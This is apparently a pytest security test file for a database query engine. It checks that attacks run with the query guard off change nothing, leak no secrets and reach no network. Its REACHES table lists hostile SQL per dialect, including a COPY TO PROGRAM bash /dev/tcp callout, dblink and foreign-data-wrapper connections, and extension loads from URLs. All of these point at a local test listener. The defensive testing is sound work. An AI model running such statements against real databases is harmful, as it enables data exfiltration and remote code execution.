"""The same attacks with the guard off: what lies behind it must hold alone.

Each attack goes through the real adapter, on the least-privilege login or the read-only file. Afterwards
nothing may have changed, no file may have been read or written, and nothing may have outlived its time.
"""

import socket
import time
from collections.abc import Iterator
from pathlib import Path

import psycopg
import pytest

from insight_engine.domain.source_errors import SourceError
from insight_engine.domain.sources import Dialect
from security.corpora import CANARY_TEXT, Attack, attacks
from security.databases import Live
from security.states import Listener, Witness, witnesses
from support.mariadb import MariadbServer
from support.servers import PostgresServer
from support.waiting import eventually

TIMEOUT_S = 0.5
# No server looks up from one call of a built-in that fills a gigabyte: only the guard keeps those out.
SLACK_S, LONGEST_CALL_S = 8, 60
LEFT_S = 5.0
SECRETS = (CANARY_TEXT, "SCRAM-SHA-256", "authentication_string")
REACHES = {
    Dialect.POSTGRES: (
        "CREATE EXTENSION dblink",
        "SELECT dblink_connect('host=127.0.0.1 port={port}')",
        "COPY (SELECT 1) TO PROGRAM 'bash -c \"echo > /dev/tcp/127.0.0.1/{port}\"'",
        "CREATE SUBSCRIPTION s CONNECTION 'host=127.0.0.1 port={port}' PUBLICATION p",
        "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '127.0.0.1', port '{port}')",
    ),
    Dialect.MYSQL: (
        "CREATE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (HOST '127.0.0.1', PORT {port})",
        "CREATE TABLE main.f (id int) ENGINE=FEDERATED CONNECTION='mysql://u@127.0.0.1:{port}/d/t'",
        "CHANGE MASTER TO MASTER_HOST = '127.0.0.1', MASTER_PORT = {port}",
        "START SLAVE",
        "INSTALL SONAME 'ha_connect'",
        "LOAD DATA LOCAL INFILE '//127.0.0.1:{port}/x' INTO TABLE main.orders",
    ),
    Dialect.SQLITE: (
        "ATTACH 'file://127.0.0.1:{port}/x' AS x",
        "SELECT load_extension('http://127.0.0.1:{port}/x')",
    ),
    Dialect.DUCKDB: (
        "ATTACH 'http://127.0.0.1:{port}/x.duckdb' AS x",
        "SELECT * FROM 'http://127.0.0.1:{port}/x.parquet'",
        "SELECT * FROM read_csv('http://127.0.0.1:{port}/x.csv')",
        "SELECT * FROM read_text('http://127.0.0.1:{port}/x')",
        "COPY orders TO 'http://127.0.0.1:{port}/x.csv'",
        "INSTALL spatial FROM 'http://127.0.0.1:{port}'",
        "ATTACH 'host=127.0.0.1 port={port}' AS x (TYPE postgres)",
    ),
}


@pytest.fixture(scope="session")
def witness(
    postgres_server: PostgresServer, mariadb_server: MariadbServer, files: Path
) -> dict[Dialect, Witness]:
    return witnesses(postgres_server, mariadb_server, files)


@pytest.fixture
def listener() -> Iterator[Listener]:
    listening = Listener()
    yield listening
    listening.close()


@pytest.mark.parametrize("attack", [a for d in Dialect for a in attacks(d)], ids=str)
@pytest.mark.usefixtures("canary")
def test_an_attack_changes_and_reads_nothing_when_nobody_judges_it(
    live: dict[Dialect, Live], witness: dict[Dialect, Witness], attack: Attack
) -> None:
    database = live[attack.dialect]
    before = witness[attack.dialect].everything()
    # SQLite works in this very thread, so what it took does not depend on what else the machine does.
    clock = time.thread_time if attack.dialect is Dialect.SQLITE else time.monotonic
    started = clock()
    answers = _answers(database, attack.sql)
    slack = LONGEST_CALL_S if attack.attempts.startswith("memory") else SLACK_S
    assert clock() - started < TIMEOUT_S + slack
    assert not [secret for secret in SECRETS if secret in answers]
    # What was changed stays changed; a statement that was ended may take a moment to go.
    look = witness[attack.dialect].everything
    within_s = LONGEST_CALL_S if attack.attempts.startswith("memory") else LEFT_S
    eventually("everything being as before", lambda: look() == before, within_s=within_s)


@pytest.mark.parametrize(("dialect", "sql"), [(d, sql) for d, texts in REACHES.items() for sql in texts])
def test_nothing_reaches_the_network_when_nobody_judges_it(
    live: dict[Dialect, Live],
    witness: dict[Dialect, Witness],
    listener: Listener,
    dialect: Dialect,
    sql: str,
) -> None:
    before = witness[dialect].everything()
    _answers(live[dialect], sql.replace("{port}", str(listener.port)))
    assert not listener.was_reached()
    eventually("everything being as before", lambda: witness[dialect].everything() == before, within_s=LEFT_S)


@pytest.mark.usefixtures("canary")
def test_the_witnesses_notice_what_an_attack_would_leave(
    postgres_server: PostgresServer,
    mariadb_server: MariadbServer,
    files: Path,
    witness: dict[Dialect, Witness],
    listener: Listener,
) -> None:
    """The proof of the proof: each kind of harm, done by an administrator, is seen."""
    before = {dialect: one.everything() for dialect, one in witness.items()}
    with psycopg.connect(postgres_server.admin_uri(), autocommit=True) as admin:
        admin.execute("UPDATE orders SET total = total + 1 WHERE id = 1")
        assert witness[Dialect.POSTGRES].everything() != before[Dialect.POSTGRES]
        admin.execute("UPDATE orders SET total = total - 1 WHERE id = 1")
        assert witness[Dialect.POSTGRES].everything() == before[Dialect.POSTGRES]
        for harm, undo in (
            ("SELECT pg_advisory_lock(7)", "SELECT pg_advisory_unlock(7)"),
            ("ALTER ROLE reader SET work_mem = '1GB'", "ALTER ROLE reader RESET work_mem"),
            ("GRANT pg_read_all_data TO reader", "REVOKE pg_read_all_data FROM reader"),
            ("SELECT lo_create(77)", "SELECT lo_unlink(77)"),
        ):
            admin.execute(harm.encode())
            assert witness[Dialect.POSTGRES].everything() != before[Dialect.POSTGRES], harm
            admin.execute(undo.encode())
    with mariadb_server.admin() as owner, owner.cursor() as cursor:
        for harm, undo in (
            (
                "UPDATE main.orders SET total = total + 1 WHERE id = 1",
                "UPDATE main.orders SET total = total - 1 WHERE id = 1",
            ),
            ("SET GLOBAL max_connections = 99", "SET GLOBAL max_connections = DEFAULT"),
            ("GRANT FILE ON *.* TO reader", "REVOKE FILE ON *.* FROM reader"),
            ("CREATE TABLE main.loot (id int)", "DROP TABLE main.loot"),
        ):
            cursor.execute(harm)
            assert witness[Dialect.MYSQL].everything() != before[Dialect.MYSQL], harm
            cursor.execute(undo)
    (files / "loot").touch()
    assert witness[Dialect.DUCKDB].everything() != before[Dialect.DUCKDB]
    (files / "loot").unlink()
    socket.create_connection(("127.0.0.1", listener.port)).close()
    assert listener.was_reached()
    assert {dialect: one.everything() for dialect, one in witness.items()} == before


def _answers(database: Live, sql: str) -> str:
    """Everything the attack got to see, its error included; at most ten batches of it."""
    seen: list[str] = []
    try:
        for batch in database.batches(database.unjudged(sql, TIMEOUT_S)):
            seen.append(str(batch.slice(0, 1_000).to_pylist()))
            if len(seen) == 10:
                break
    except SourceError as error:
        seen.append(error.message)
    return " ".join(seen)
